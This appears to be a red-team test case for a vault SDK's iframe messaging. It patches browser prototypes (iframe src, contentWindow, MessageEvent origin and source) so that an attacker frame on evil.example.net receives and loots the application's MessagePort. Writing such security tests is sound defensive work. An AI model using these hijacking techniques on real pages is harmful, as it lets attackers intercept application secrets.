// A real attacker: comes first and puts a frame of their own where the SDK puts the vault's: `src` leads to their server, and
// what a message says of where it came from is a lie. The application then talks to them.
export default {
  row: "frames",
  expected: [null, "loses"],
  // The application has the attacker's frame for a vault.
  breaks: true,
  elsewhere: (redteam) => {
    setInterval(() => parent.postMessage("strongroom:hello", "*"), 10);
    addEventListener("message", ({ ports: [port] }) => {
      if (!port) return;
      redteam.loot("the attacker's frame has the application's port");
      port.onmessage = ({ data }) => redteam.loot(data);
      port.postMessage([0, "https://evil.example.net/login"]);
    });
  },
  before: (redteam) => {
    const { vault, evil } = redteam;
    const change = (owner, name, lie) => {
      const own = Object.getOwnPropertyDescriptor(owner.prototype, name);
      Object.defineProperty(owner.prototype, name, { ...own, ...lie(own) });
    };
    change(HTMLIFrameElement, "src", ({ set }) => ({
      set(value) {
        set.call(this, String(value).replace(vault, evil));
      },
    }));
    change(MessageEvent, "origin", ({ get }) => ({
      get() {
        const origin = get.call(this);
        return origin === evil ? vault : origin;
      },
    }));
    // What is meant for the vault's origin goes to the attacker's window, behind one mask wherever the SDK looks at it.
    let real;
    const mask = {
      postMessage: (data, _, ports) => {
        redteam.handed = true;
        real.postMessage(data, "*", ports);
      },
    };
    change(HTMLIFrameElement, "contentWindow", () => ({ get: () => mask }));
    const { get: from } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "source");
    Object.defineProperty(MessageEvent.prototype, "source", {
      get() {
        const source = from.call(this);
        if (this.origin !== vault) return source;
        real = source;
        return mask;
      },
    });
  },
  after: async (_, redteam) => {
    await redteam.until(() => redteam.handed, 15_000);
    await redteam.wait(1500);
    return { handed: redteam.handed };
  },
  // The port that was made for the vault went to a window of the attacker's.
  reached: ({ brought, seen }) =>
    brought.handed &&
    seen.some(({ name, headers }) => name === "evil" && headers["sec-fetch-dest"] === "iframe"),
};
